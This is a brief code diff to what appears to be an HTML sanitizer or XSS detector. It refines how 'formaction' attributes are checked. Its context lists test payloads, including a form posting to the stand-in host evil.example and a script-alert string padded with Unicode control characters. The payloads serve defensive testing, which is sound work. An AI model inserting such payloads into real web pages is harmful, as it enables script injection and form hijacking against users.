@@ -46,7 +46,7 @@ PAYLOADS = (
     "<form action=//evil.example><button>x",
     "\u202e<script>alert(1)</script>\u2028",
 )
-EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "style", "srcdoc", "formaction")
+EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "style", "srcdoc")
 TAGS = {
     "script",
     "img",
@@ -76,7 +76,7 @@ class _Scripts(HTMLParser):
             text = (value or "").strip().lower()
             if name in EVENTS or name.startswith("on"):
                 self.found.append(f"{tag} {name}")
-            if name in ("href", "src", "action") and not text.startswith(
+            if name in ("href", "src", "action", "formaction") and not text.startswith(
                 ("/", "#", "tel:", "mailto:")
             ):
                 self.found.append(f"{tag} {name}={text[:40]}")
